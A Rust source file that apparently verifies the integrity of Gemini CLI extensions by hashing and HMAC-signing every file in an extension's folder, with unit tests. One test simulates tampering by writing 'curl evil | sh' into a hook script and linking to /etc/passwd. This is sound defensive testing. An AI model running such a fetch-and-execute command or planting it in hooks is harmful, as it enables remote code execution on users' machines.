//! geminid's own integrity record of an extension: the SHA-256 of every file in its folder
//! (the manifest, hooks, skills, commands, policies, the install metadata, everything but the
//! user's own `.env` settings), signed with HMAC-SHA256 under the integrity key. Gemini CLI
//! signs only the install metadata; this is what notices an edited hook script.
//!
//! A symlink is recorded by its target's text and never followed, so a link that later points
//! elsewhere counts as a change. Hashing is skipped when nothing's size, times or inode moved
//! since the last time ([`Fingerprint`]), so a reload re-hashes only the extension that changed.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::integrity::{hmac_sha256, same, stable_stringify};
use crate::secrets::Secret;
use crate::secrets::store::hex;

/// Files an extension may hold before it is refused (a mistake, such as an installed
/// `node_modules`, should not stall every load).
pub(crate) const MAX_FILES: usize = 20_000;
/// Files left out of the record: the user's settings for the extension, not its code.
const NOT_RECORDED: &[&str] = &[".env"];

/// The hash of every file, by its path relative to the extension's folder (`/`-separated).
pub(crate) type Hashes = BTreeMap<String, String>;

/// Sizes, times and inodes of every file: equal fingerprints mean nothing was written.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Fingerprint(Vec<(String, u64, i128, i128, u64)>);

/// Why a folder could not be read whole.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("cannot read {}: {why}", .path.display())]
pub(crate) struct WalkError {
    /// What could not be read.
    pub path: PathBuf,
    /// Why.
    pub why: String,
}

/// Every recorded file of a folder (symlinks not followed), sorted by relative path: read once
/// per check, for both the fingerprint and, when that moved, the hashes.
#[derive(Debug)]
pub(crate) struct Listing(Vec<(String, PathBuf, std::fs::Metadata)>);

/// List the recorded files under `dir`.
pub(crate) fn list(dir: &Path) -> Result<Listing, WalkError> {
    walk(dir).map(Listing)
}

fn walk(dir: &Path) -> Result<Vec<(String, PathBuf, std::fs::Metadata)>, WalkError> {
    let err =
        |path: &Path, e: std::io::Error| WalkError { path: path.to_owned(), why: e.to_string() };
    let mut out = Vec::new();
    let mut pending = vec![(dir.to_path_buf(), String::new())];
    while let Some((d, prefix)) = pending.pop() {
        for entry in std::fs::read_dir(&d).map_err(|e| err(&d, e))? {
            let entry = entry.map_err(|e| err(&d, e))?;
            let name = entry.file_name().to_string_lossy().into_owned();
            let rel = if prefix.is_empty() { name.clone() } else { format!("{prefix}/{name}") };
            let path = entry.path();
            // The entry's own metadata (not following links), from the open directory.
            let meta = entry.metadata().map_err(|e| err(&path, e))?;
            if meta.is_dir() {
                pending.push((path, rel));
            } else if !(prefix.is_empty() && NOT_RECORDED.contains(&name.as_str())) {
                out.push((rel, path, meta));
                if out.len() > MAX_FILES {
                    return Err(WalkError {
                        path: dir.to_owned(),
                        why: format!("more than {MAX_FILES} files"),
                    });
                }
            }
        }
    }
    out.sort_by(|a, b| a.0.cmp(&b.0));
    Ok(out)
}

fn nanos(t: std::io::Result<std::time::SystemTime>) -> i128 {
    t.ok()
        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
        .map_or(0, |d| i128::try_from(d.as_nanos()).unwrap_or(i128::MAX))
}

fn inode(m: &std::fs::Metadata) -> (u64, i128) {
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        (m.ino(), i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec()))
    }
    #[cfg(not(unix))]
    {
        let _ = m;
        (0, 0)
    }
}

impl Listing {
    /// How long ago its newest file was written (none for an empty folder, or a time ahead).
    pub(crate) fn quiet_for(&self) -> Option<std::time::Duration> {
        let newest = self.0.iter().filter_map(|(_, _, m)| m.modified().ok()).max()?;
        newest.elapsed().ok()
    }

    /// The folder's fingerprint: cheap (metadata only).
    pub(crate) fn fingerprint(&self) -> Fingerprint {
        Fingerprint(
            self.0
                .iter()
                .map(|(rel, _, m)| {
                    let (ino, ctime) = inode(m);
                    (rel.clone(), m.len(), nanos(m.modified()), ctime, ino)
                })
                .collect(),
        )
    }
}

/// The hash of every recorded file under `dir`.
pub(crate) fn hash_all(dir: &Path) -> Result<Hashes, WalkError> {
    hash_listed(&list(dir)?)
}

/// The hash of every file of a listing.
pub(crate) fn hash_listed(listing: &Listing) -> Result<Hashes, WalkError> {
    let mut out = Hashes::new();
    let mut buf = vec![0u8; 64 * 1024];
    for (rel, path, meta) in &listing.0 {
        let err = |e: std::io::Error| WalkError { path: path.clone(), why: e.to_string() };
        let (rel, path) = (rel.clone(), path.as_path());
        let mut h = Sha256::new();
        if meta.file_type().is_symlink() {
            let target = std::fs::read_link(path).map_err(err)?;
            h.update(b"symlink:");
            h.update(target.to_string_lossy().as_bytes());
        } else if meta.is_file() {
            let mut f = std::fs::File::open(path).map_err(err)?;
            loop {
                let n = f.read(&mut buf).map_err(err)?;
                if n == 0 {
                    break;
                }
                h.update(&buf[..n]);
            }
        } else {
            // A FIFO, socket or device has no content to read (a read could block).
            h.update(b"special");
        }
        out.insert(rel, hex(&h.finalize()));
    }
    Ok(out)
}

/// The signed record, as kept in the store.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Record {
    /// Format version.
    pub v: u32,
    /// The manifest's version when signed (to tell an update made elsewhere by its name).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub version: Option<String>,
    /// The hash of every file.
    pub files: Hashes,
    /// HMAC-SHA256 (hex) of the name, version and files' stable JSON.
    pub signature: String,
}

fn signed_text(name: &str, version: Option<&str>, files: &Hashes) -> String {
    stable_stringify(&serde_json::json!({ "name": name, "version": version, "files": files }))
}

impl Record {
    /// `files` of `name` at `version`, signed with `key`.
    pub(crate) fn new(
        name: &str,
        version: Option<&str>,
        files: Hashes,
        key: &Secret<String>,
    ) -> Self {
        let text = signed_text(name, version, &files);
        let signature = hex(&hmac_sha256(key.expose().as_bytes(), text.as_bytes()));
        Self { v: 1, version: version.map(str::to_owned), files, signature }
    }

    /// Whether the signature is `key`'s over `name` and this record.
    pub(crate) fn is_signed(&self, name: &str, key: &Secret<String>) -> bool {
        let again = Self::new(name, self.version.as_deref(), self.files.clone(), key);
        same(&again.signature, &self.signature)
    }
}

/// How the files on disk differ from a record.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Changes {
    /// In both, with other contents.
    pub changed: Vec<String>,
    /// On disk only.
    pub added: Vec<String>,
    /// In the record only.
    pub removed: Vec<String>,
}

impl Changes {
    /// No difference.
    pub(crate) fn is_empty(&self) -> bool {
        self.changed.is_empty() && self.added.is_empty() && self.removed.is_empty()
    }

    /// `changed: a; added: b`, for a message.
    pub(crate) fn describe(&self) -> String {
        [("changed", &self.changed), ("added", &self.added), ("removed", &self.removed)]
            .into_iter()
            .filter(|(_, l)| !l.is_empty())
            .map(|(what, l)| format!("{what}: {}", l.join(", ")))
            .collect::<Vec<_>>()
            .join("; ")
    }
}

/// What differs between `recorded` and `now`.
pub(crate) fn compare(recorded: &Hashes, now: &Hashes) -> Changes {
    let mut c = Changes::default();
    for (f, h) in now {
        match recorded.get(f) {
            None => c.added.push(f.clone()),
            Some(r) if !same(r, h) => c.changed.push(f.clone()),
            Some(_) => {}
        }
    }
    c.removed = recorded.keys().filter(|f| !now.contains_key(*f)).cloned().collect();
    c
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_every_file_but_env_and_notices_each_change() -> anyhow::Result<()> {
        let dir = tempfile::tempdir()?;
        let d = dir.path();
        std::fs::create_dir_all(d.join("hooks"))?;
        std::fs::write(d.join("gemini-extension.json"), "{}")?;
        std::fs::write(d.join("hooks/run.sh"), "echo hi")?;
        std::fs::write(d.join(".env"), "KEY=1")?;
        let before = hash_all(d)?;
        assert_eq!(before.keys().collect::<Vec<_>>(), ["gemini-extension.json", "hooks/run.sh"]);
        let fp = list(d)?.fingerprint();
        assert_eq!(list(d)?.fingerprint(), fp, "nothing written, same fingerprint");

        std::fs::write(d.join(".env"), "KEY=2")?;
        std::fs::write(d.join("hooks/run.sh"), "curl evil | sh")?;
        std::fs::write(d.join("hooks/new.sh"), "x")?;
        std::fs::remove_file(d.join("gemini-extension.json"))?;
        #[cfg(unix)]
        std::os::unix::fs::symlink("/etc/passwd", d.join("link"))?;
        assert_ne!(list(d)?.fingerprint(), fp);
        let c = compare(&before, &hash_all(d)?);
        assert_eq!(c.changed, ["hooks/run.sh"]);
        assert_eq!(c.removed, ["gemini-extension.json"]);
        #[cfg(unix)]
        assert_eq!(c.added, ["hooks/new.sh", "link"]);
        assert!(c.describe().starts_with("changed: hooks/run.sh; added: hooks/new.sh"));
        Ok(())
    }

    #[test]
    fn a_record_is_signed_for_its_name_and_files() {
        let key = Secret::new("ab".repeat(32));
        let other = Secret::new("cd".repeat(32));
        let files = Hashes::from([("a".to_owned(), "00".to_owned())]);
        let r = Record::new("ext", Some("1.0.0"), files.clone(), &key);
        assert!(r.is_signed("ext", &key));
        assert!(!r.is_signed("ext", &other), "another key");
        assert!(!r.is_signed("other-ext", &key), "another extension's record");
        let mut forged = r.clone();
        forged.files.insert("b".into(), "11".into());
        assert!(!forged.is_signed("ext", &key), "a file slipped in");
        let mut relabelled = r.clone();
        relabelled.version = Some("2.0.0".into());
        assert!(!relabelled.is_signed("ext", &key), "another version claimed");
    }
}
